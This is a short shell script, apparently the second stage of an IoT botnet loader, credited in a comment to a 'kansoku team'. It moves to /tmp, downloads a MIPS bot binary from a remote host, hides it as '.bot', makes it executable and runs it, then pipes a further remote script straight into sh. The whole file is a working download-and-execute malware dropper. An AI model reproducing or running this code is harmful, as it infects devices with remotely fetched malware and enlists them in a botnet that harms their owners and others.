#!/bin/sh
# second stage of wget_stages.sh (written by the kansoku team): the bot, run at once, then the third stage
cd /tmp
wget http://192.0.2.50/bins/bot.mips -O .bot
chmod +x .bot
./.bot loader.wget
wget -qO- http://192.0.2.50/p.sh | sh
